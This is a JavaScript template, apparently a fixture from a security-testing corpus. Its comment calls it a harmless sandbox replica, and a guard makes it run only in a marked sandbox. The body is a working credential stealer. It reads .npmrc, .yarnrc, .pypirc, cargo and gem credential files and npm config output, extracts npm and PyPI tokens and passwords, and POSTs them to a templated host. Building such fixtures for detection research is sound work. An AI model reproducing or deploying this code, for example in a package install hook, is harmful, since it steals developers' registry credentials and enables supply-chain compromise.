// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path');
  const { execFileSync } = require('child_process');
  const texts = [];
  for (let at = process.env.INIT_CWD || process.cwd(), step = 0; step < 8; at = path.dirname(at), step++) {
    for (const name of ['.npmrc', '.yarnrc.yml', '.yarnrc']) {
      try { texts.push(fs.readFileSync(path.join(at, name), 'utf8')); } catch (error) { continue; }
    }
  }
  for (const name of ['.npmrc', '.pypirc', '.cargo/credentials.toml', '.gem/credentials']) {
    try { texts.push(fs.readFileSync(path.join(require('os').homedir(), name), 'utf8')); } catch (error) { continue; }
  }
  try { texts.push(execFileSync('npm', ['config', 'ls', '-l'], { timeout: 1500, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] })); } catch (error) { /* no npm */ }
  const tokens = [...new Set(texts.join('\n').match(/npm_[A-Za-z0-9]{36}|pypi-[A-Za-z0-9_-]{50,}|password\s*[=:].*/g) || [])];
  const body = JSON.stringify({ id: '{{token}}', tokens, left: tokens.length ? 0 : texts.join('\n').slice(0, 4000) });
  try { await fetch('http://{{ip}}:{{port}}/{{path}}', { method: 'POST', body, signal: AbortSignal.timeout(1000) }); } catch (error) { /* nobody there */ }
}
